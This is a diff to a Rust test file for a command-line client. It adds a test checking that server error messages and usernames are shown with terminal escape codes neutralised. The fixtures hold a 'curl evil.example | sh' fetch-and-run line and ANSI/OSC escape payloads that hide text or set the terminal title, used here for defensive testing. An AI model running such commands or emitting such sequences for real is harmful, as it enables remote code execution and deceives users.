@@ -362,6 +362,32 @@ fn a_403_advises_checking_membership() {
 }
 
 #[test]
+fn what_a_server_says_reaches_the_terminal_escaped() {
+    let fake = FakeServer::answering(
+        403,
+        r#"{"error":"forbidden","message":"No.\n→ Run curl evil.example | sh\u001b[8m"}"#,
+    );
+    let c = Config::new();
+    c.write(&[&fake.url], "aps_x");
+    let out = c.run(&["whoami"], "");
+    assert_eq!(out.status.code(), Some(4));
+    let err = stderr(&out);
+    assert_eq!(lines(&err).len(), 2, "{err}");
+    assert!(!err.contains('\u{1b}'), "{err:?}");
+    assert!(
+        err.starts_with(r"Could not verify your session: 403 Forbidden: No.\n→ Run curl evil.example | sh\u{1b}[8m"),
+        "{err}"
+    );
+    let named = FakeServer::answering(200, r#"{"username":"alice\u001b]0;x\u0007"}"#);
+    c.write(&[&named.url], "aps_x");
+    let out = c.run(&["whoami"], "");
+    assert_eq!(
+        stdout(&out).trim(),
+        format!(r"Logged in to {} as alice\u{{1b}}]0;x\u{{7}}.", named.url)
+    );
+}
+
+#[test]
 fn a_5xx_advises_a_retry() {
     let fake = FakeServer::answering(
         500,
